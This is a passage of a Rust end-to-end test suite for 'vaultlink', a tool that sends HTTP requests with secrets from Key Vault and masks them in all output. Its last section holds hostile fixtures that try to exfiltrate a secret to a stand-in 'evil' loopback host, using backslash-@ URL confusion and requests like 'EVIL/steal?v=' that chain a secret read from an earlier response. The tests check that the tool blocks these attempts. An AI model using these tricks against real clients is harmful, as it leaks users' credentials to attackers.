//! `vaultlink send` and `vaultlink.sendRequest` end to end: the built binary resolves
//! variables and secrets (signing in to the Key Vault emulator), sends to a loopback echo
//! server, and masks every secret value in everything it prints or returns.

use serde_json::{Value, json};
use vaultlink_e2e::echo::{Echo, Got};
use vaultlink_e2e::emulator::Emulator;
use vaultlink_e2e::lsp::{Client, Options};
use vaultlink_e2e::{Project, Run, run_with};

const KV: &str = "corp-kv.vault.azure.net";
const SECRET: &str = "tok-S3CRET-value-91/+=";

struct Setup {
    emu: Emulator,
    echo: Echo,
    project: Project,
}

/// The emulator with the secret `api-token`, an echo server, and a project written from
/// `fixture` with `ECHO` replaced by the echo server's URL. Every project links `api-token`
/// (allowed on 127.0.0.1) and `limited` (allowed only on api.example.com).
fn setup(fixture: &str) -> Setup {
    setup_with(fixture, &[])
}

/// [`setup`], with more secrets `(name, value)`, each allowed only on 127.0.0.1.
fn setup_with(fixture: &str, more: &[(&str, &str)]) -> Setup {
    let emu = Emulator::start();
    emu.add_secret(KV, "api-token", SECRET);
    emu.add_secret(KV, "limited", "limited-value-xyz");
    let mut extra = String::new();
    for (name, value) in more {
        emu.add_secret(KV, name, value);
        extra.push_str(&format!(
            r#",
    "{name}": {{ "link": "https://{KV}/secrets/{name}", "allowedDomains": ["127.0.0.1"] }}"#
        ));
    }
    let echo = Echo::start();
    let links = format!(
        r#"//- /vaultlink.json
{{
  "secrets": {{
    "api-token": {{ "link": "https://{KV}/secrets/api-token", "allowedDomains": ["127.0.0.1", "localhost"] }},
    "limited": {{ "link": "https://{KV}/secrets/limited", "allowedDomains": ["api.example.com"] }}{extra}
  }}
}}
"#
    );
    let project = Project::new(&format!("{links}{}", fixture.replace("ECHO", &echo.url())));
    Setup { emu, echo, project }
}

impl Setup {
    fn env(&self) -> Vec<(String, String)> {
        let mut env = self.emu.env();
        env.extend(self.emu.sp_env());
        env.push(("VL_TEST_VAR".to_owned(), "from-process-env".to_owned()));
        env
    }

    fn send(&self, args: &[&str]) -> Run {
        let mut all = vec!["send"];
        all.extend_from_slice(args);
        run_with(self.project.dir.path(), &all, &self.env())
    }
}

fn header<'a>(got: &'a Got, name: &str) -> Option<&'a str> {
    got.headers
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|(_, v)| v.as_str())
}

fn body(got: &Got) -> String {
    String::from_utf8_lossy(&got.body).into_owned()
}

/// Every line of `--json` output as a value.
fn json_lines(run: &Run) -> Vec<Value> {
    run.stdout
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect()
}

fn assert_no_secret(what: &str, text: &str) {
    for form in [
        SECRET.to_owned(),
        url::form_urlencoded::byte_serialize(SECRET.as_bytes()).collect::<String>(),
    ] {
        assert!(!text.contains(&form), "the secret is in {what}:\n{text}");
    }
}

const HTTP: &str = r#"
//- /http-client.env.json
{ "dev": { "host": "ECHO", "user": "dev-user" }, "prod": { "host": "http://prod.invalid" } }
//- /.env
DOTENV_VALUE="from-dotenv"
//- /payload.json
{"from": "a file"}
//- /api.http
@base = {{host}}/v1

### login
# @name login
POST {{base}}/login
Content-Type: application/json

{"user": "{{user}}", "id": "{{$uuid}}", "ts": "{{$timestamp}}", "n": "{{$randomInt 5 6}}", "env": "{{$processEnv VL_TEST_VAR}}", "dot": "{{$dotenv DOTENV_VALUE}}"}

### chained
GET {{base}}/items?after={{login.response.body.method}}

### search
GET {{base}}/search
    ?q=café
    &page=2
Authorization: Bearer {{vault:api-token}}

### upload
POST {{base}}/upload
Content-Type: application/json

< ./payload.json
"#;

#[test]
fn http_requests_resolve_every_kind_of_variable_and_secret() {
    let s = setup(HTTP);
    let run = s.send(&["api.http", "--all", "--env", "dev", "--json"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let got = s.echo.requests();
    assert_eq!(got.len(), 4, "{got:#?}");

    let login: Value = serde_json::from_slice(&got[0].body).unwrap();
    assert_eq!(got[0].method, "POST");
    assert_eq!(got[0].target, "/v1/login");
    assert_eq!(login["user"], "dev-user");
    assert_eq!(login["id"].as_str().unwrap().len(), 36);
    assert!(login["ts"].as_str().unwrap().parse::<i64>().unwrap() > 1_700_000_000);
    assert_eq!(login["n"], "5");
    assert_eq!(login["env"], "from-process-env");
    assert_eq!(login["dot"], "from-dotenv");

    assert_eq!(
        got[1].target, "/v1/items?after=POST",
        "the earlier response was read"
    );
    assert_eq!(
        got[2].target, "/v1/search?q=caf%C3%A9&page=2",
        "lines joined, non-ASCII encoded once"
    );
    assert_eq!(
        header(&got[2], "authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    assert_eq!(body(&got[3]), "{\"from\": \"a file\"}\n");

    let lines = json_lines(&run);
    assert_eq!(lines.len(), 4);
    for l in &lines {
        assert_eq!(l["status"], 200);
        assert!(l["elapsedMs"].is_u64());
    }
    // The echo of the secret comes back in a header and in the body: masked in both.
    let search = &lines[2];
    let auth = search["headers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h[0] == "x-echo-auth")
        .unwrap();
    assert_eq!(auth[1], "Bearer ***");
    assert!(
        search["body"].as_str().unwrap().contains("Bearer ***"),
        "{search}"
    );
    assert_no_secret("--json output", &run.stdout);
    assert_no_secret("stderr", &run.stderr);

    // Exactly one sign-in and one fetch of the secret for the whole run.
    let values = s
        .emu
        .requests()
        .into_iter()
        .filter(|r| r.path.starts_with("/secrets/api-token") && r.authorization.is_some())
        .count();
    assert_eq!(values, 1);
}

#[test]
fn text_output_dry_run_and_errors_mask_the_secret() {
    let s = setup(&format!(
        "{HTTP}\n### unreachable\nGET http://127.0.0.1:1/?key={{{{vault:api-token}}}}\n"
    ));
    let run = s.send(&["api.http", "--request", "search", "--env", "dev"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.starts_with("HTTP/1.1 200 OK\n"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("x-echo-auth: Bearer ***"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("\"method\": \"GET\""),
        "pretty JSON: {}",
        run.stdout
    );
    assert_no_secret("stdout", &run.stdout);

    let before = s.emu.requests().len();
    let dry = s.send(&[
        "api.http",
        "--request",
        "line:17",
        "--env",
        "dev",
        "--dry-run",
    ]);
    assert_eq!(dry.code, 0, "{}", dry.stderr);
    assert!(
        dry.stdout.contains("Authorization: Bearer ***"),
        "{}",
        dry.stdout
    );
    assert!(
        dry.stdout.starts_with(
            "GET ECHO/v1/search?q=café&page=2"
                .replace("ECHO", &s.echo.url())
                .as_str()
        ),
        "{}",
        dry.stdout
    );
    assert_eq!(s.emu.requests().len(), before, "a dry run fetches nothing");
    assert_eq!(s.echo.requests().len(), 1, "and sends nothing");

    let failed = s.send(&["api.http", "--request", "unreachable", "--env", "dev"]);
    assert_eq!(failed.code, 1);
    assert!(
        failed.stderr.contains("could not connect"),
        "{}",
        failed.stderr
    );
    assert!(
        failed.stderr.contains("key=***"),
        "the URL is quoted, masked: {}",
        failed.stderr
    );
    assert_no_secret("an error message", &failed.stderr);
}

#[test]
fn an_undefined_variable_or_unlinked_reference_stops_the_request_by_name() {
    let s = setup("//- /api.http\nGET ECHO/{{missing}}/{{alsoMissing}}\nX-Key: {{vault:nobody}}\n");
    let run = s.send(&["api.http"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr
            .contains("undefined variables `missing`, `alsoMissing`"),
        "{}",
        run.stderr
    );
    let run = s.send(&["api.http", "--request", "1"]);
    assert_eq!(run.code, 1);
    assert!(s.echo.requests().is_empty());

    let s = setup("//- /api.http\nGET ECHO/x\nX-Key: {{vault:nobody}}\n");
    let run = s.send(&["api.http"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains("`{{vault:nobody}}` is not linked"),
        "{}",
        run.stderr
    );
    assert!(s.echo.requests().is_empty());
    assert!(s.emu.requests().is_empty());

    let run = s.send(&["nope.http"]);
    assert_eq!(run.code, 2);
}

#[test]
fn a_secret_is_neither_fetched_nor_sent_to_a_host_it_is_not_allowed_on() {
    let s = setup("//- /api.http\nGET ECHO/x\nX-Key: {{vault:limited}}\n");
    let run = s.send(&["api.http"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr
            .contains("the secret `limited` may not be sent to `127.0.0.1`"),
        "{}",
        run.stderr
    );
    assert!(
        s.emu.requests().is_empty(),
        "nothing was asked of Key Vault or Entra ID"
    );
    assert!(s.echo.requests().is_empty(), "nothing was sent");
}

#[test]
fn a_redirect_to_another_origin_is_not_followed_with_a_secret() {
    let other = Echo::start();
    let to = format!("http://localhost:{}/elsewhere", other.port());
    let s = setup(&format!(
        "//- /api.http\n### secret\nGET ECHO/redirect?to={to}\nAuthorization: Bearer {{{{vault:api-token}}}}\n\n### plain\nGET ECHO/redirect?to={to}\n"
    ));
    let run = s.send(&["api.http", "--request", "secret"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.starts_with("HTTP/1.1 302 Found"),
        "{}",
        run.stdout
    );
    assert!(
        run.stderr
            .contains("the redirect was not followed because the request carries a secret"),
        "{}",
        run.stderr
    );
    assert!(other.requests().is_empty(), "the other origin got nothing");

    let run = s.send(&["api.http", "--request", "plain"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.starts_with("HTTP/1.1 200 OK"), "{}", run.stdout);
    assert_eq!(
        other.requests().len(),
        1,
        "without a secret the redirect is followed"
    );
}

fn collection(echo_url: &str) -> String {
    let kv = |k: &str, v: &str| json!({ "key": k, "value": v });
    json!({
        "info": { "name": "Shop", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json" },
        "auth": { "type": "bearer", "bearer": [kv("token", "{{vault:api-token}}")] },
        "variable": [kv("colVar", "cv")],
        "item": [{
            "name": "Outer",
            "item": [{
                "name": "Inner",
                "item": [
                    { "name": "raw json", "request": { "method": "POST", "url": "{{host}}/raw",
                        "body": { "mode": "raw", "raw": "{\"k\": \"{{colVar}}\"}" } } },
                    { "name": "urlencoded", "request": { "method": "POST", "url": "{{host}}/form",
                        "auth": { "type": "basic", "basic": [kv("username", "dev-user"), kv("password", "{{vault:api-token}}")] },
                        "body": { "mode": "urlencoded", "urlencoded": [kv("a", "1"), kv("b", "{{colVar}}"),
                            { "key": "off", "value": "x", "disabled": true }] } } },
                    { "name": "formdata", "request": { "method": "POST", "url": "{{host}}/multi",
                        "auth": { "type": "apikey", "apikey": [kv("key", "X-Key"), kv("value", "{{vault:api-token}}"), kv("in", "header")] },
                        "body": { "mode": "formdata", "formdata": [kv("field", "{{colVar}}")] } } },
                    { "name": "graphql", "request": { "method": "POST", "url": "{{host}}/graphql",
                        "auth": { "type": "apikey", "apikey": [kv("key", "api_key"), kv("value", "plain-key"), kv("in", "query")] },
                        "body": { "mode": "graphql", "graphql": { "query": "{ items { id } }", "variables": "{\"n\": 1}" } } } },
                    { "name": "file", "request": { "method": "PUT", "url": "{{host}}/file",
                        "auth": { "type": "noauth" },
                        "body": { "mode": "file", "file": { "src": "payload.json" } } } }
                ]
            }]
        }]
    })
    .to_string()
    .replace("ECHO", echo_url)
}

#[test]
fn collection_items_with_every_body_mode_and_auth_type() {
    let s = setup(
        "//- /payload.json\n{\"from\": \"a file\"}\n//- /dev.postman_environment.json\n{\"name\": \"dev\", \"values\": [{\"key\": \"host\", \"value\": \"ECHO\", \"enabled\": true}]}\n",
    );
    std::fs::write(
        s.project.path("shop.postman_collection.json"),
        collection(&s.echo.url()),
    )
    .unwrap();
    let run = s.send(&[
        "shop.postman_collection.json",
        "--all",
        "--env",
        "dev",
        "--json",
    ]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let got = s.echo.requests();
    assert_eq!(got.len(), 5);
    let b64 = |s: &str| {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(s)
    };

    assert_eq!(got[0].target, "/raw");
    assert_eq!(body(&got[0]), "{\"k\": \"cv\"}");
    assert_eq!(
        header(&got[0], "authorization"),
        Some(format!("Bearer {SECRET}").as_str()),
        "inherited bearer"
    );
    assert_eq!(header(&got[0], "content-type"), Some("application/json"));

    assert_eq!(body(&got[1]), "a=1&b=cv");
    assert_eq!(
        header(&got[1], "content-type"),
        Some("application/x-www-form-urlencoded")
    );
    assert_eq!(
        header(&got[1], "authorization"),
        Some(format!("Basic {}", b64(&format!("dev-user:{SECRET}"))).as_str())
    );

    assert!(
        header(&got[2], "content-type")
            .unwrap()
            .starts_with("multipart/form-data; boundary=")
    );
    assert!(
        body(&got[2]).contains("name=\"field\"\r\n\r\ncv\r\n"),
        "{}",
        body(&got[2])
    );
    assert_eq!(header(&got[2], "x-key"), Some(SECRET));

    assert_eq!(got[3].target, "/graphql?api_key=plain-key");
    let gql: Value = serde_json::from_slice(&got[3].body).unwrap();
    assert_eq!(
        gql,
        json!({ "query": "{ items { id } }", "variables": { "n": 1 } })
    );

    assert_eq!(got[4].method, "PUT");
    assert_eq!(body(&got[4]), "{\"from\": \"a file\"}\n");
    assert_eq!(header(&got[4], "authorization"), None, "noauth");

    assert_no_secret("--json output", &run.stdout);
    let basic = json_lines(&run)[1]["headers"].to_string();
    assert!(basic.contains("Basic ***"), "{basic}");

    // One item in a nested folder, chosen by its path.
    let run = s.send(&[
        "shop.postman_collection.json",
        "--request",
        "Outer/Inner/graphql",
        "--env",
        "dev",
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(s.echo.requests().len(), 6);
}

#[test]
fn the_editor_sends_the_request_under_the_cursor() {
    let s = setup(HTTP);
    let env = s.env();
    let mut client = Client::start_with(
        s.project.dir.path(),
        Options {
            env: &env,
            initialization_options: Some(json!({ "vaultlink": { "env": "dev" } })),
            ..Options::default()
        },
    );
    let path = s.project.path("api.http");
    let text = s.project.read("api.http");
    let uri = client.open(&path, &text);
    let lenses = client.ok(
        "textDocument/codeLens",
        json!({ "textDocument": { "uri": uri } }),
    );
    let sends: Vec<&Value> = lenses
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| l["command"]["command"] == "vaultlink.sendRequest")
        .collect();
    assert_eq!(sends.len(), 4, "a Send lens above each request");
    let search = sends[2]["command"]["arguments"][0].clone();
    assert_eq!(search["uri"], uri);
    let result = client.ok(
        "workspace/executeCommand",
        json!({
            "command": "vaultlink.sendRequest", "arguments": [search]
        }),
    );
    assert_eq!(result["status"], 200, "{result}");
    assert_eq!(result["statusText"], "OK");
    assert_eq!(result["bodyEncoding"], "utf-8");
    assert_eq!(result["request"]["method"], "GET");
    assert_eq!(
        result["request"]["url"],
        format!("{}/v1/search?q=caf%C3%A9&page=2", s.echo.url())
    );
    assert!(
        result["request"]["headers"]
            .to_string()
            .contains("Bearer ***"),
        "{result}"
    );
    assert!(
        result["body"].as_str().unwrap().contains("Bearer ***"),
        "{result}"
    );
    assert_eq!(
        header(&s.echo.requests()[0], "authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    let transcript: String = client.transcript().into_iter().map(|(_, m)| m).collect();
    assert_no_secret("the LSP messages", &transcript);
    assert_no_secret("the server's stderr", &client.stderr());

    // A binary answer comes back as base64.
    std::fs::write(
        s.project.path("bin.http"),
        format!("GET {}/binary\n", s.echo.url()),
    )
    .unwrap();
    let bin_uri = client.open(
        &s.project.path("bin.http"),
        &format!("GET {}/binary\n", s.echo.url()),
    );
    let result = client.ok(
        "workspace/executeCommand",
        json!({
            "command": "vaultlink.sendRequest",
            "arguments": [{ "uri": bin_uri, "position": { "line": 0, "character": 0 } }]
        }),
    );
    assert_eq!(result["bodyEncoding"], "base64");
    assert_eq!(result["body"], "AJ+Slv8=");

    // A secret that may not go to this host: refused before anything is fetched, by name.
    let limited = "GET ECHO/x\nX-Key: {{vault:limited}}\n".replace("ECHO", &s.echo.url());
    std::fs::write(s.project.path("limited.http"), &limited).unwrap();
    let limited_uri = client.open(&s.project.path("limited.http"), &limited);
    let err = client
        .request(
            "workspace/executeCommand",
            json!({
                "command": "vaultlink.sendRequest",
                "arguments": [{ "uri": limited_uri, "position": { "line": 0, "character": 0 } }]
            }),
        )
        .unwrap_err();
    assert!(
        err["message"]
            .as_str()
            .unwrap()
            .contains("may not be sent to `127.0.0.1`"),
        "{err}"
    );
    client.shutdown();
}

#[test]
fn a_slow_request_times_out_on_the_command_line_and_is_cancelled_in_the_editor() {
    let s = setup("//- /slow.http\nGET ECHO/slow\n");
    let started = std::time::Instant::now();
    let run = s.send(&["slow.http", "--timeout", "1"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains("the request timed out (see --timeout)"),
        "{}",
        run.stderr
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(4));

    let env = s.env();
    let mut client = Client::start_with(
        s.project.dir.path(),
        Options {
            env: &env,
            ..Options::default()
        },
    );
    let text = "GET ECHO/slow\n".replace("ECHO", &s.echo.url());
    let uri = client.open(&s.project.path("slow.http"), &text);
    let id = client.send_request(
        "workspace/executeCommand",
        json!({
            "command": "vaultlink.sendRequest",
            "arguments": [{ "uri": uri, "position": { "line": 0, "character": 0 } }]
        }),
    );
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while s.echo.requests().len() < 2 {
        assert!(
            std::time::Instant::now() < deadline,
            "the request never arrived"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let cancelled_at = std::time::Instant::now();
    client.notify("$/cancelRequest", json!({ "id": id }));
    let err = client
        .wait_response(
            id,
            "vaultlink.sendRequest",
            std::time::Duration::from_secs(3),
        )
        .unwrap_err();
    assert_eq!(err["code"], -32800, "{err}");
    assert!(cancelled_at.elapsed() < std::time::Duration::from_secs(2));
    // The server goes on.
    let lenses = client.ok(
        "textDocument/codeLens",
        json!({ "textDocument": { "uri": uri } }),
    );
    assert!(lenses.as_array().is_some_and(|l| !l.is_empty()));
    client.shutdown();
}

#[test]
fn the_quickstart_sends_through_the_emulator_and_masks_the_secret() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_quickstart"))
        .output()
        .expect("the quickstart runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(stdout.starts_with("HTTP/1.1 200 OK"), "{stdout}");
    assert!(stdout.contains("\"Bearer ***\""), "{stdout}");
    assert!(
        stderr.contains("the echo server received the real secret"),
        "{stderr}"
    );
    // The value is `echo-` and 16 hex digits, made by the quickstart: nowhere in the output.
    let leaked = stdout.match_indices("echo-").any(|(i, _)| {
        let rest = &stdout[i + 5..];
        rest.len() >= 16 && rest[..16].bytes().all(|b| b.is_ascii_hexdigit())
    });
    assert!(!leaked, "{stdout}");
}

#[test]
fn a_selection_is_sent_in_the_order_given() {
    let s = setup(HTTP);
    let run = s.send(&[
        "api.http",
        "--request",
        "upload",
        "--request",
        "1",
        "--request",
        "line:11",
        "--env",
        "dev",
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let targets: Vec<String> = s.echo.requests().into_iter().map(|g| g.target).collect();
    assert_eq!(targets, ["/v1/upload", "/v1/login", "/v1/items?after=POST"]);
    assert_eq!(run.stdout.matches("HTTP/1.1 200 OK").count(), 3);
    assert!(
        run.stdout.contains("### #4 \"upload\" — POST"),
        "{}",
        run.stdout
    );
    let bad = s.send(&["api.http", "--request", "9"]);
    assert_eq!(bad.code, 2);
    assert!(
        bad.stderr
            .contains("there is no request 9: the file has 4 requests"),
        "{}",
        bad.stderr
    );
}

/// Header names arrive as they are written (HTTP says they are case-insensitive, but curl and
/// the editors' clients send what was written, and some servers and signatures care); the echo
/// server reads the raw names off the wire.
#[test]
fn header_names_are_sent_as_written() {
    let s = setup(
        "//- /api.http\nPOST ECHO/trial\nX-Trial: vaultlink\nAuthorization: Bearer {{vault:api-token}}\nContent-Type: application/json\n\n{}\n",
    );
    let run = s.send(&["api.http"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let got = s.echo.requests();
    let names: Vec<&str> = got[0].headers.iter().map(|(n, _)| n.as_str()).collect();
    for written in ["X-Trial", "Authorization", "Content-Type"] {
        assert!(
            names.contains(&written),
            "`{written}` arrives as written: {names:?}"
        );
    }
}

/// A name keeps the case it is written in, whatever that is — not lower-cased, not put in
/// the usual `X-Trial` form — and the names vaultlink adds itself read as usual. The echo
/// server reads the raw bytes of each header line.
#[test]
fn header_names_keep_the_case_they_are_written_in() {
    let s = setup(
        "//- /api.http\nPOST ECHO/trial\nX-trial: vaultlink\nx-api-key: k\nAUTHORIZATION: Bearer {{vault:api-token}}\nx-api-key: second\nContent-TYPE: application/json\n\n{}\n",
    );
    let run = s.send(&["api.http"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let got = s.echo.requests();
    let names: Vec<&str> = got[0].headers.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        [
            "X-trial",
            "x-api-key",
            "x-api-key",
            "AUTHORIZATION",
            "Content-TYPE",
            "User-Agent",
            "Accept",
            "Host",
            "Content-Length",
        ],
    );
}

/// A request's name is quoted where a message names it, so that the message reads as one.
#[test]
fn messages_quote_request_names() {
    let s = setup(
        "//- /api.http\n### A secret nobody linked yet\nGET ECHO/x\nX-Key: {{vault:nobody}}\n",
    );
    let run = s.send(&["api.http"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr
            .contains("vaultlink: #1 \"A secret nobody linked yet\" was not sent: "),
        "{}",
        run.stderr
    );
}

#[test]
fn text_output_reports_the_timing_on_stderr() {
    let s = setup("//- /one.http\n# @name ping\nGET ECHO/ping\n");
    let run = s.send(&["one.http"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let line = run
        .stderr
        .lines()
        .find(|l| l.starts_with("vaultlink: #1 \"ping\": 200 OK in "))
        .unwrap_or_else(|| panic!("no timing line: {}", run.stderr));
    assert!(line.ends_with(" ms"), "{line}");
    assert!(
        run.stdout.starts_with("HTTP/1.1 200 OK"),
        "stdout is the response alone"
    );
}

/// An HTTPS server on loopback offering HTTP/2 and HTTP/1.1 (ALPN), with a certificate for
/// `localhost` from a certificate authority made for the test; returns the port and the
/// authority's PEM, which the client trusts through `SSL_CERT_FILE`.
fn https_server() -> (u16, String) {
    use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, DnType, IsCa, KeyPair};
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(DnType::CommonName, "vaultlink test authority");
    let ca = CertifiedIssuer::self_signed(ca_params, KeyPair::generate().unwrap()).unwrap();
    let key = KeyPair::generate().unwrap();
    let cert = CertificateParams::new(vec!["localhost".to_owned()])
        .unwrap()
        .signed_by(&key, &ca)
        .unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let (cert_pem, key_pem) = (cert.pem(), key.serialize_pem());
    std::thread::spawn(move || {
        let rt = tokio::runtime::Runtime::new().unwrap();
        rt.block_on(async move {
            let config =
                axum_server::tls_rustls::RustlsConfig::from_pem(cert_pem.into(), key_pem.into())
                    .await
                    .unwrap();
            let app = axum::Router::new().route(
                "/version",
                axum::routing::get(|v: axum::http::Version| async move { format!("{v:?}") }),
            );
            axum_server::from_tcp_rustls(listener, config)
                .unwrap()
                .serve(app.into_make_service())
                .await
                .unwrap();
        });
    });
    (port, ca.pem())
}

#[test]
fn https_speaks_http2_when_the_server_offers_it() {
    let (port, ca) = https_server();
    let s = setup(&format!(
        "//- /tls.http\nGET https://localhost:{port}/version\nAuthorization: Bearer {{{{vault:api-token}}}}\n"
    ));
    let ca_file = s.project.path("authority.pem");
    std::fs::write(&ca_file, ca).unwrap();
    let mut env = s.env();
    env.push(("SSL_CERT_FILE".to_owned(), ca_file.display().to_string()));
    let run = run_with(s.project.dir.path(), &["send", "tls.http"], &env);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.starts_with("HTTP/2 200 OK"), "{}", run.stdout);
    assert!(
        run.stdout.trim_end().ends_with("HTTP/2.0"),
        "the server saw HTTP/2: {}",
        run.stdout
    );
}

// ---------------------------------------------------------------------------------------------
// Hostile files: where a secret may go, and every form it may take on the way back.

const SCHEMA: &str = "https://schema.getpostman.com/json/collection/v2.1.0/collection.json";

/// The findings of `check --offline --format json` in `file`, as `(line, code)`.
fn offline_findings(s: &Setup, args: &[&str], file: &str) -> Vec<(u64, String)> {
    let mut all = vec!["check", "--offline", "--format", "json"];
    all.extend_from_slice(args);
    let run = run_with(s.project.dir.path(), &all, &s.env());
    let found: Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", run.stdout, run.stderr));
    found
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["file"].as_str().unwrap().ends_with(file))
        .map(|f| {
            (
                f["line"].as_u64().unwrap(),
                f["code"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

#[test]
fn a_url_read_otherwise_than_it_is_sent_never_carries_a_secret_and_check_flags_it() {
    let evil = Echo::start_at("127.0.0.2");
    let e = format!("127.0.0.2:{}", evil.port());
    let s = setup(&format!(
        r#"//- /http-client.env.json
{{"dev": {{"envHost": "http://{e}\\@127.0.0.1"}}}}
//- /api.http
@h = http://{e}\@127.0.0.1

### direct
GET http://{e}\@127.0.0.1/bs
X-Secret: {{{{vault:api-token}}}}

### backslashes for slashes
GET http:\\{e}\@127.0.0.1/bs
X-Secret: {{{{vault:api-token}}}}

### through a file variable
GET {{{{h}}}}/bs
X-Secret: {{{{vault:api-token}}}}

### through an environment
GET {{{{envHost}}}}/bs
X-Secret: {{{{vault:api-token}}}}
"#
    ));
    let header = json!([{ "key": "X-Secret", "value": "{{vault:api-token}}" }]);
    let coll = json!({
        "info": { "name": "c", "schema": SCHEMA },
        "item": [
            { "name": "raw", "request": { "method": "GET", "header": header,
                "url": { "raw": format!("http://{e}\\@127.0.0.1/bs") } } },
            { "name": "object", "request": { "method": "GET", "header": header,
                "url": { "protocol": "http", "path": ["bs"],
                    "host": ["127", "0", "0", format!("2:{}\\@127", evil.port()), "0", "0", "1"] } } }
        ]
    });
    std::fs::write(
        s.project.path("c.postman_collection.json"),
        coll.to_string(),
    )
    .unwrap();

    for (file, requests, env) in [
        ("api.http", 4, &["--env", "dev"][..]),
        ("c.postman_collection.json", 2, &[]),
    ] {
        for n in 1..=requests {
            let n = n.to_string();
            let mut args = vec![file, "--request", &n];
            args.extend_from_slice(env);
            let run = s.send(&args);
            assert_eq!(run.code, 1, "{file} #{n}: {}\n{}", run.stdout, run.stderr);
            assert!(
                run.stderr.contains("counts as `/` when it is sent")
                    && run.stderr.contains("`127.0.0.2`"),
                "{file} #{n}: {}",
                run.stderr
            );
        }
    }
    assert!(evil.requests().is_empty(), "{:#?}", evil.requests());
    assert!(s.echo.requests().is_empty());
    assert!(s.emu.requests().is_empty(), "no secret was fetched");

    // Offline, each of those URLs is an error, and the host it really goes to is checked.
    let http = offline_findings(&s, &["--env", "dev", "api.http"], "api.http");
    for line in [4, 8, 12, 16] {
        assert!(
            http.contains(&(line, "syntax-error".to_owned())),
            "{http:?}"
        );
        assert!(
            http.contains(&(line + 1, "domain-not-allowed".to_owned())),
            "{http:?}"
        );
    }
    let coll = offline_findings(
        &s,
        &["c.postman_collection.json"],
        "c.postman_collection.json",
    );
    let count = |code: &str| coll.iter().filter(|(_, c)| c == code).count();
    assert_eq!(
        (count("syntax-error"), count("domain-not-allowed")),
        (2, 2),
        "{coll:?}"
    );
}

#[test]
fn a_value_read_from_a_response_goes_only_where_the_secret_behind_it_may_go() {
    let evil = Echo::start_at("127.0.0.2");
    let chain = r#"//- /chain.http
### first
# @name first
POST ECHO/first
Content-Type: text/plain

{{vault:api-token}}

### to another host
# @name second
GET EVIL/steal?v={{first.response.body.body}}

### to the same host
# @name third
GET ECHO/again?v={{first.response.body.body}}&h={{first.response.headers.X-Echo-Auth}}

### through two responses
GET EVIL/steal-again?v={{third.response.body.target}}
"#
    .replace("EVIL", &evil.url());
    let s = setup(&chain);
    let run = s.send(&["chain.http", "--all"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains(
            "the secret `api-token` (it reaches this request through the response to `first`, which carried it) may not be sent to `127.0.0.2`"
        ),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("through the response to `third`, which carried it"),
        "{}",
        run.stderr
    );
    assert!(evil.requests().is_empty(), "{:#?}", evil.requests());
    let got = s.echo.requests();
    assert_eq!(got.len(), 2, "first and third were sent");
    assert_eq!(body(&got[0]), SECRET);
    assert!(
        !got[1].target.contains("tok-S3CRET"),
        "responses are kept masked: {}",
        got[1].target
    );
    assert_no_secret("stdout", &run.stdout);
    assert_no_secret("stderr", &run.stderr);

    // The editor keeps responses for the session: the same holds there.
    let env = s.env();
    let mut client = Client::start_with(
        s.project.dir.path(),
        Options {
            env: &env,
            ..Options::default()
        },
    );
    let text = s.project.read("chain.http");
    let uri = client.open(&s.project.path("chain.http"), &text);
    let line_of = |needle: &str| text.lines().position(|l| l.contains(needle)).unwrap();
    let mut send_at = |needle: &str| {
        client.request(
            "workspace/executeCommand",
            json!({
                "command": "vaultlink.sendRequest",
                "arguments": [{ "uri": uri, "position": { "line": line_of(needle), "character": 0 } }]
            }),
        )
    };
    let first = send_at("POST ").unwrap();
    assert_eq!(first["status"], 200, "{first}");
    let third = send_at("/again?").unwrap();
    assert_eq!(third["status"], 200, "{third}");
    assert!(
        third["request"]["url"].as_str().unwrap().contains("v=***"),
